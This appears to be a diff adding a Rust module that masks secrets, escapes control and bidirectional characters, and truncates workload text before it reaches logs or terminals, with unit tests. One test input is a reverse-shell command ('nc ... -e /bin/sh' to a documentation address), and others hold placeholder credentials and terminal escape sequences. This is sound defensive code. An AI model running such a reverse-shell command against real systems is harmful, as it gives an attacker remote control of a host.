@@ -1,0 +1,250 @@
+//! Text from workloads, made safe to show and to store.
+//!
+//! Names, images, commands and field managers are chosen by whoever creates a workload. Before any of it
+//! reaches a report, an Event, a log line or a terminal it becomes a [`SafeText`]: secrets masked, control and
+//! direction characters escaped, cut to a limit. There is no other way to make one.
+
+use std::borrow::Cow;
+use std::fmt::{self, Write as _};
+use std::sync::LazyLock;
+
+use regex::Regex;
+use schemars::JsonSchema;
+use serde::{Deserialize, Serialize};
+
+/// Text that is safe to print: no secret that is recognised as one, no character that a terminal, a log or a
+/// page could take for a command, at most as long as was asked for.
+#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize, JsonSchema)]
+#[serde(transparent)]
+pub struct SafeText(String);
+
+/// How much of a text is looked at for secrets before it is cut. Larger than any limit in use, so that a
+/// secret which begins inside the limit is recognised as a whole.
+const WINDOW: usize = 4096;
+
+/// What stands in place of a secret.
+const MASK: &str = "***";
+
+/// Marks that text was cut.
+const ELLIPSIS: char = '…';
+
+impl SafeText {
+    /// Makes text safe: masks, escapes, and cuts to `limit` characters (the mark of the cut included).
+    pub fn new(raw: &str, limit: usize) -> Self {
+        let window = match raw.char_indices().nth(WINDOW) {
+            Some((end, _)) => raw.get(..end).unwrap_or_default(),
+            None => raw,
+        };
+        let masked = mask_secrets(window);
+        let mut safe = String::with_capacity(masked.len().min(limit * 4));
+        let mut length = 0;
+        let mut rest = masked.chars().peekable();
+        while let Some(character) = rest.next() {
+            let start = safe.len();
+            push_escaped(&mut safe, character);
+            let added = safe.get(start..).map_or(0, |text| text.chars().count());
+            let more = rest.peek().is_some() || window.len() < raw.len();
+            if length + added + usize::from(more) > limit {
+                safe.truncate(start);
+                if length < limit {
+                    safe.push(ELLIPSIS);
+                }
+                break;
+            }
+            length += added;
+        }
+        Self(safe)
+    }
+
+    /// The text.
+    pub fn as_str(&self) -> &str {
+        &self.0
+    }
+}
+
+impl fmt::Display for SafeText {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.0)
+    }
+}
+
+fn push_escaped(out: &mut String, character: char) {
+    match character {
+        '\n' => out.push_str("\\n"),
+        '\r' => out.push_str("\\r"),
+        '\t' => out.push_str("\\t"),
+        _ if is_unsafe(character) => {
+            // Writing to a String cannot fail.
+            let _ = write!(out, "\\u{{{:x}}}", u32::from(character));
+        }
+        _ => out.push(character),
+    }
+}
+
+/// Characters that change how text around them is shown, or that cannot be seen.
+fn is_unsafe(character: char) -> bool {
+    character.is_control()
+        || matches!(character,
+            '\u{ad}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{180e}' | '\u{3164}' | '\u{feff}' | '\u{ffa0}'
+            | '\u{200b}'..='\u{200f}'   // zero width, left-to-right and right-to-left marks
+            | '\u{2028}'..='\u{202e}'   // line and paragraph separators, bidirectional embeddings
+            | '\u{2060}'..='\u{206f}'   // invisible operators, bidirectional isolates
+            | '\u{fe00}'..='\u{fe0f}'   // variation selectors
+            | '\u{fff9}'..='\u{fffb}'   // interlinear annotations
+            | '\u{e0000}'..='\u{e0fff}' // tags
+        )
+}
+
+/// Patterns of secrets. The group `secret` is masked, or the whole match where there is no such group.
+/// They rather mask too much: what is lost is a detail of an excerpt.
+static SECRETS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
+    [
+        // user:password@ in a URL
+        r"(?i)[a-z][a-z0-9+.-]*://(?P<secret>[^/\s@'\x22]+)@",
+        // Authorization headers and bearer tokens
+        r"(?i)\b(?:authorization|proxy-authorization|x-[a-z-]*(?:token|key|auth)[a-z-]*)\s*[:=]\s*(?P<secret>[^'\x22\r\n]+)",
+        r"(?i)\b(?:bearer|basic)\s+(?P<secret>[A-Za-z0-9._~+/=-]{6,})",
+        // mysql -psecret, sshpass -p secret: before the names below, which would take `pass -p` for a pair
+        r"\bmysql(?:dump|admin)?\b.*?\s-p(?P<secret>[^\s]+)",
+        r"\bsshpass\s+-p\s*(?P<secret>[^\s]+)",
+        // NAME=value, "name": "value", --name value, where the name speaks of a secret
+        r#"(?ix)[a-z0-9_.-]*(?:passw(?:or)?d|passwd|passphrase|pwd|secret|token|api[_-]?key|access[_-]?key|private[_-]?key
+            |account[_-]?key|credential|client[_-]?secret|_pass|_key|pass)["']?
+            (?:\s*[=:]\s*|\s+)(?P<secret>"[^"]*"?|'[^']*'?|[^\s&;|"']+)"#,
+        // curl -u user:password
+        r#"(?:^|\s)(?:-u|--user)[\s=]*(?P<secret>["']?[^\s:"']+:[^\s"']+)"#,
+        // well-known shapes
+        r"\b(?:AKIA|ASIA)[A-Z0-9]{12,}",
+        r"\bgh[pousr]_[A-Za-z0-9]{16,}|\bgithub_pat_[A-Za-z0-9_]{20,}|\bglpat-[A-Za-z0-9_-]{16,}",
+        r"\bxox[abeprs]-[A-Za-z0-9-]{10,}|\bsk[-_](?:live|test|proj|ant)?[-_]?[A-Za-z0-9_-]{16,}|\bAIza[A-Za-z0-9_-]{30,}|\bnpm_[A-Za-z0-9]{30,}",
+        r"\beyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}(?:\.[A-Za-z0-9_-]*)?",
+        r"(?s)-----BEGIN [A-Z ]*PRIVATE KEY-----.*?(?:-----END [A-Z ]*PRIVATE KEY-----|\z)",
+    ]
+    .iter()
+    .filter_map(|pattern| Regex::new(pattern).ok())
+    .collect()
+});
+
+fn mask_secrets(text: &str) -> Cow<'_, str> {
+    let mut masked = Cow::Borrowed(text);
+    for pattern in SECRETS.iter() {
+        let mut hidden = String::new();
+        let mut last = 0;
+        for captures in pattern.captures_iter(&masked) {
+            let Some(secret) = captures.name("secret").or_else(|| captures.get(0)) else { continue };
+            hidden.push_str(masked.get(last..secret.start()).unwrap_or_default());
+            hidden.push_str(MASK);
+            last = secret.end();
+        }
+        if last > 0 {
+            hidden.push_str(masked.get(last..).unwrap_or_default());
+            masked = Cow::Owned(hidden);
+        }
+    }
+    mask_random_looking(masked)
+}
+
+/// The shortest run of characters that can be masked for looking random.
+const RANDOM_LENGTH: usize = 32;
+
+/// Masks long runs of mixed letters and digits: keys that no pattern knows.
+///
+/// Image digests and other lower-case hexadecimal text stay: they are public, and they identify.
+fn mask_random_looking(text: Cow<'_, str>) -> Cow<'_, str> {
+    let is_part =
+        |character: char| character.is_ascii_alphanumeric() || matches!(character, '+' | '_' | '-' | '=');
+    let looks_random = |run: &str| {
+        let count = |class: fn(&char) -> bool| run.chars().filter(class).count();
+        run.len() >= RANDOM_LENGTH
+            && count(char::is_ascii_digit) >= 3
+            && count(char::is_ascii_uppercase) >= 3
+            && count(char::is_ascii_lowercase) >= 3
+    };
+    if !text.split(|character| !is_part(character)).any(looks_random) {
+        return text;
+    }
+    let mut out = String::with_capacity(text.len());
+    for piece in text.split_inclusive(|character| !is_part(character)) {
+        let run = piece.trim_end_matches(|character| !is_part(character));
+        if looks_random(run) {
+            out.push_str(MASK);
+            out.push_str(piece.get(run.len()..).unwrap_or_default());
+        } else {
+            out.push_str(piece);
+        }
+    }
+    Cow::Owned(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn safe(raw: &str) -> String {
+        SafeText::new(raw, 200).0
+    }
+
+    #[test]
+    fn all_patterns_compile() {
+        assert_eq!(SECRETS.len(), 12);
+    }
+
+    #[test]
+    fn secrets_are_masked() {
+        for (raw, secret) in [
+            ("mysql --password=hunter2 db", "hunter2"),
+            ("mysql --password hunter2 db", "hunter2"),
+            ("mysqldump -u root -phunter2 db", "hunter2"),
+            ("export DB_PASSWORD='hunter 2'; x", "hunter 2"),
+            ("TOKEN=abc123 curl x", "abc123"),
+            ("curl -u admin:hunter2 http://x", "hunter2"),
+            ("curl https://user:hunter2@example.test/x", "hunter2"),
+            ("curl https://ghp_0123456789abcdefABCD@example.test/x", "ghp_"),
+            ("curl -H 'Authorization: Bearer abcdef0123456' x", "abcdef0123456"),
+            ("echo AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
+            ("echo eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl", "eyJhbGci"),
+            ("echo '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----'", "MIIE"),
+            (r#"{"api_key": "k-123456"}"#, "k-123456"),
+            ("sshpass -p hunter2 ssh x", "hunter2"),
+            ("x 9fK3jd82LsQp04ZmXvB7tYhW1nRcEu65", "9fK3jd82LsQp04ZmXvB7tYhW1nRcEu65"),
+        ] {
+            assert!(!safe(raw).contains(secret), "{raw} -> {}", safe(raw));
+            assert!(safe(raw).contains(MASK), "{raw} -> {}", safe(raw));
+        }
+    }
+
+    #[test]
+    fn ordinary_commands_stay_readable() {
+        for raw in [
+            "nc 192.0.2.10 4444 -e /bin/sh",
+            "curl -sf http://health.example.test/ready",
+            "registry.example.test/a@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
+            "tar czf /backup/etcd-2024.tgz /var/lib/etcd",
+        ] {
+            assert_eq!(safe(raw), raw);
+        }
+    }
+
+    #[test]
+    fn nothing_reaches_a_terminal_as_a_command() {
+        assert_eq!(
+            safe("a\u{1b}[2Jb\nc\u{9b}d\u{202e}e\u{200b}f\u{7f}"),
+            "a\\u{1b}[2Jb\\nc\\u{9b}d\\u{202e}e\\u{200b}f\\u{7f}"
+        );
+    }
+
+    #[test]
+    fn the_limit_counts_what_is_shown() {
+        assert_eq!(SafeText::new("abcdef", 6).as_str(), "abcdef");
+        assert_eq!(SafeText::new("abcdefg", 6).as_str(), "abcde…");
+        assert_eq!(SafeText::new("ab\u{1b}cd", 6).as_str(), "ab…");
+        assert_eq!(SafeText::new(&"x".repeat(1_000_000), 120).as_str().chars().count(), 120);
+        assert_eq!(SafeText::new("abc", 0).as_str(), "");
+    }
+
+    #[test]
+    fn a_secret_across_the_cut_is_masked() {
+        let raw = format!("{} TOKEN={}", "x".repeat(100), "abc".repeat(2_000));
+        assert!(!SafeText::new(&raw, 120).as_str().contains("abc"));
+    }
+}
